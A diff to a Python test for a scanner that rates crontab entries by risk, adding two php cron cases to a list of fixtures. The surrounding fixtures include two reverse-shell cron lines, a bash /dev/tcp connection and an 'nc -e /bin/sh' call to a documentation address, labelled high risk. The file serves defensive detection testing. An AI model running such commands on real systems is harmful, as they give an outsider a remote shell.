@@ -98,6 +98,8 @@ def test_patterns_are_quick_on_hostile_text() -> None:
         ("1 1 * * * root bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'", "high"),
         ("1 1 * * * root nc -e /bin/sh 198.51.100.7 9", "high"),
         ("1 1 * * * root /home/agnes/x.sh", "medium"),
+        ("1 1 * * * www-data php /var/www/site/cron.php", ""),
+        ("1 1 * * * root php /var/www/site/cron.php", "medium"),
         ("1 1 * * * agnes /home/agnes/x.sh", ""),
         ("1 1 * * * root /usr/local/sbin/backup", ""),
         ("1 1 * * * root test -x /usr/bin/x && /usr/bin/x", ""),
